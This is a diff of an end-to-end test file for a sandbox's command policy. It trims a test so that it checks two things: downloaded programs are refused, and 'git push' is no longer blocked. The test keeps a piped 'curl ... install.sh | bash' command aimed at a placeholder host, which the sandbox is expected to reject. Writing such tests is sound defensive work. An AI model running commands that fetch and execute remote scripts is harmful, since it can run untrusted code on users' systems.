@@ -388,19 +388,11 @@ describe('what is refused, in words', () => {
     await closed.close()
   })
 
-  test('where hosts can be reached, the network is not contained', async () => {
+  test('where hosts can be reached, downloaded programs are refused and pushes are not', async () => {
     const one = await e2b.Sandbox.create(here.options)
     await expect(one.commands.run('curl -s https://x.example/install.sh | bash')).rejects.toThrow(
       /downloaded/,
     )
-    const asked = one.commands.run('git push origin main')
-    const pending = async () =>
-      (await here.server.call('GET', '/v1/approvals?state=pending')).json.items[0]?.id
-    await until(async () => (await pending()) !== undefined, 'the question')
-    await here.server.call('POST', `/v1/approvals/${await pending()}`, { body: { approve: false } })
-    await expect(asked).rejects.toThrow(/publishes work/)
-    // Closing the network of the running sandbox contains it.
-    await one.updateNetwork({ denyOut: ['0.0.0.0/0'] })
     expect((await one.commands.run('git push origin main 2>&1 || true')).stdout).toContain('git')
     await one.kill()
   })
